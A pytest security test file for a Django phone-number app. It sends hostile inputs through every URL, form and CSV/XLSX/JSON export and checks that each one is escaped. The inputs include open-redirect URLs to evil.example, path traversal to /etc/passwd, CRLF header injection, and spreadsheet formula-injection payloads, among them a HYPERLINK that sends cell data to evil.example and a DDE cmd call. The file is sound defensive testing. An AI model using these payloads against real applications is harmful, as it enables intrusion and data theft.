"""Sends one table of hostile texts to every URL: from Quo, in the URL and in forms.

The URLs come from the URL configuration, so a new page is covered automatically.
"""

import json
from collections.abc import Iterator
from io import BytesIO
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from django.core.cache import cache
from django.db import transaction
from django.test import Client, override_settings
from openpyxl import load_workbook
from selectolax.lexbor import LexborHTMLParser

from accounts.models import User
from accounts.roles import Role
from numbers.models import PhoneNumber, Teammate
from numbers.vocabulary.links import number_url, teammate_url
from tests.support.addresses import APP, NUMBER, PARTS, TEAMMATE, fill_route, routes
from tests.support.exported_files import parse_csv, starts_a_formula
from tests.support.hostile import HOSTILE, assert_harmless, hostile_number
from tests.support.pages import HTMX, PageClient, client_with_role, sync_all
from tests.support.quo_answers import number, user

ADDRESSES = {
    "another site": "//evil.example/",
    "another site, with a name": "https://testserver@evil.example/",
    "another site, turned": "/\\evil.example",
    "a script": "javascript:alert(1)//",
    "a path up": "../../../../etc/passwd",
    "a path up, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a header": "x\r\nX-Evil: 1\r\nSet-Cookie: evil=1\r\n\r\n<b data-evil>",
    "a header, encoded": "x%0d%0aX-Evil:%201",
}
FORMULAS = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Press here")',
    "a formula, hidden": "\u200b\t=cmd|' /C calc'!A0",
    "a formula, wide": "＝1+1",
    "a plus": "+1-2",
    "an at": "@SUM(A1)",
}
TEXTS = HOSTILE | ADDRESSES | FORMULAS | {"letters alike": "аdmin@ехample.соm", "much": "M" * 1_000_000}
# Texts that are long, empty or contain line breaks are each tried separately.
SEPARATE = ("nul", "empty", "blank", "much", "a header", "a header, encoded")
# The others are joined into one text, except external URLs, which work only at the start of a text.
ORDINARY = " ".join(text for name, text in TEXTS.items() if name not in {*SEPARATE, *ADDRESSES, "long", "long words"})
TEXT_GROUPS = {
    "ordinary": (ORDINARY,),
    "addresses": tuple(text for name, text in ADDRESSES.items() if name not in SEPARATE),
    **{name: (TEXTS[name],) for name in SEPARATE},
}

NAMES = (
    *("q", "user", "who", "sort", "page", "next", "raw", "by", "group", "kind", "country", "porting", "forward"),
    *("unassigned", "calling_us", "messaging_intl", "event", "version", "number", "code", "state", "error", "role"),
)
FIELDS = (
    *("next", "number", "user", "version", "name", "query", "column", "theme", "login", "password", "email", "role"),
    *("password1", "password2", "oldpassword", "code", "credential", "action", "id", "pk"),
)
LEAVES = {"/accounts/logout/", "/admin/logout/"}


@pytest.fixture
def boss(db: None) -> Iterator[PageClient]:
    """Return an administrator, who sees everything, with a demo workspace that is not running."""
    with override_settings(DEBUG=False, DEMO=True):
        yield client_with_role(Role.ADMINISTRATOR, "boss@example.com")


every_text = pytest.mark.parametrize("texts", TEXT_GROUPS.values(), ids=TEXT_GROUPS)


def addresses(number_id: str, user_id: str, part: str) -> list[str]:
    """Return every URL for this number and teammate, with `part` in its other parameters."""
    pages = {NUMBER: number_url(number_id)[1:], TEAMMATE: teammate_url(user_id)[1:], APP: PARTS[APP]}
    parts = {**dict.fromkeys(PARTS, part), "<path:object_id>": part, "<id>": part, **pages}
    paths = {fill_route(route, parts) for route in routes()}
    # Django's URLs that no page uses.
    others = ("/admin/r/", "/admin/autocomplete/")
    return sorted(path for path in paths if path not in LEAVES and not path.startswith(others))


def checked_content(response: Any, path: str) -> bytes:
    """Check the rules for every response; return its content."""
    assert response.status_code < 500, path
    assert "X-Evil" not in response.headers
    assert "evil" not in response.cookies
    for name in ("Location", "HX-Redirect", "HX-Push-Url", "HX-Replace-Url"):
        address = urlsplit(response.headers.get(name, ""))
        assert address.netloc in {"", "testserver"}, f"{path} leads to {response.headers[name]}"
        assert address.scheme in {"", "http"}
    content: bytes = response.getvalue()
    if response.headers.get("Content-Type", "").startswith("text/html"):
        assert_harmless(LexborHTMLParser(content.decode()))
        assert b"Traceback" not in content
    return content


def get_content(client: Client, path: str, **more: Any) -> bytes:
    with transaction.atomic():
        content = checked_content(Client.get(client, path, **more), path)
        transaction.set_rollback(True)
    return content


@pytest.fixture
def hostile_memory(boss: PageClient) -> None:
    """Remember every hostile text in every field of Quo's answer."""
    much = number("PN1", name=TEXTS["much"], users=[user("US1", email=TEXTS["much"])])
    sync_all(much, *(hostile_number(text) for text in TEXTS.values() if text != TEXTS["much"]))


def test_every_page_escapes_quos_text(boss: PageClient, hostile_memory: None) -> None:
    numbers = PhoneNumber.objects.values_list("quo_id", flat=True)
    teammates = Teammate.objects.values_list("quo_id", flat=True)
    assert len(numbers) == len(teammates) == len(TEXTS)

    for path in {*addresses("PN1", "US1", "1"), *map(number_url, numbers), *map(teammate_url, teammates)}:
        get_content(boss, path)


def test_every_file_escapes_quos_text(boss: PageClient) -> None:
    records = [hostile_number(text) for text in TEXTS.values() if text != TEXTS["much"]]
    sync_all(*records)

    for name in ("numbers", "teammates", "audit"):
        rows = parse_csv(get_content(boss, f"/{name}.csv"))
        assert len(rows) >= len(records)
        assert [cell for row in rows for cell in row.values() if starts_a_formula(cell)] == []
        book = load_workbook(BytesIO(get_content(boss, f"/{name}.xlsx")))
        assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n", "inlineStr"}
        assert len(json.loads(get_content(boss, f"/{name}.json"))["data"]) >= len(records)


LINE = 5_000  # characters; the web server limits the first line of a request


@every_text
def test_every_page_escapes_its_url(boss: PageClient, texts: tuple[str, ...]) -> None:
    sync_all(number("PN1", users=[user("US1")]))
    for place, text in enumerate(texts):
        shortened = text[:LINE]
        query = {**dict.fromkeys(NAMES, shortened), shortened: "1"}
        headers = {**HTMX, "HX-Current-URL": shortened.replace("\r", "").replace("\n", "")}
        for path in addresses(f"PN{shortened}", f"US{shortened}", quote(shortened, safe=""))[place :: len(texts)]:
            if not path.startswith(("/admin/", "/accounts/")):  # these read only `next`
                get_content(boss, path, data=query)
                get_content(boss, path, data=query, headers=headers)


@every_text
def test_every_public_page_escapes_its_url(db: None, texts: tuple[str, ...]) -> None:
    for text in texts:
        shortened = text[:LINE]
        for place, path in enumerate(addresses(f"PN{shortened}", f"US{shortened}", quote(shortened, safe=""))):
            if place % 6 == 0 or path.startswith("/accounts/"):  # all others redirect to sign-in in the same way
                get_content(Client(), path, data={"next": shortened})


@every_text
def test_every_form_escapes_its_values(boss: PageClient, texts: tuple[str, ...]) -> None:
    sync_all(number("PN1", users=[user("US1")]))
    boss_key = User.objects.get().pk

    for path in addresses("PN1", "US1", str(boss_key)):
        for text in texts:
            cache.clear()
            with transaction.atomic():
                checked_content(boss.post(path, dict.fromkeys(FIELDS, text)), path)
                transaction.set_rollback(True)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_the_sign_in_form_escapes_its_values(db: None, text: str) -> None:
    cache.clear()
    User.objects.create_user("ann@example.com", "a long enough secret")
    secret = {"login": "ann@example.com", "password": "a long enough secret"}

    checked_content(Client().post("/accounts/login/", {"login": text, "password": text, "next": text}), "failed")
    checked_content(Client().post("/accounts/login/", {**secret, "next": text}), "signed in")
